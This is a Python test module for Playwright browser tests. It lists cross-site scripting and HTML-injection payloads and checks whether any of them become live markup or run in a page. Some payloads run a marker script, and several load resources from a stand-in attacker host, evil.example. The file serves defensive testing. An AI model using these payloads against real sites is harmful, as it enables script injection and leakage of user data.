"""Texts that would do something if any part of the pages took them for more than text."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

_CALL = "window.hacked=1"
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_TAGS = ("img src=x", "svg", "video src=x", "audio src=x", "body", "details open", "input autofocus", "iframe src=x")

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} {handler}={_CALL}>" for tag in _TAGS for handler in _HANDLERS),
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f'"><script>{_CALL}</script>',
    f"'><img src=x onerror={_CALL}>",
    f"--><svg/onload={_CALL}>",
    f"</textarea><img src=x onerror={_CALL}>",
    f"</title><img src=x onerror={_CALL}>",
    f"</mark></div><img src=x onerror={_CALL}>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"[x](javascript:{_CALL})",
    "![x](https://evil.example/pixel.png)",
    '<img src="https://evil.example/pixel.png">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"`${{{_CALL}}}`",
    f"{{{{{{{_CALL}}}}}}}",
    "<%= window.hacked=1 %>",
    f"<template><img src=x onerror={_CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"&lt;img src=x onerror={_CALL}&gt;",
    f"&#60;img src=x onerror={_CALL}&#62;",
    f"<img/src=`x`onerror={_CALL}>",
    f"<x onclick={_CALL} style=animation-name:x>",
    "<div style=\"background:url('https://evil.example/x')\">",
    f"\\u003cimg src=x onerror={_CALL}\\u003e",
)


def active(page: Page) -> list[str]:
    """Return what of the payloads has become part of the page, and whether any has run."""
    found: list[str] = page.evaluate(
        """() => {
          const bad = [...document.querySelectorAll("#ds-main, #ds-top, #ds-rail")].flatMap((part) =>
            [...part.querySelectorAll("*")].filter((one) =>
              [...one.attributes].some((a) => a.value.includes("window.hacked") && a.name.startsWith("on")) ||
              (one.getAttribute("href") || "").toLowerCase().startsWith("javascript:") ||
              (one.getAttribute("src") || "").includes("evil.example") || one.getAttribute("src") === "x" ||
              ["IFRAME", "OBJECT", "EMBED", "BASE", "META", "MATH"].includes(one.tagName)));
          return [...bad.map((one) => one.outerHTML.slice(0, 200)), ...(window.hacked ? ["a payload has run"] : [])];
        }"""
    )
    return found
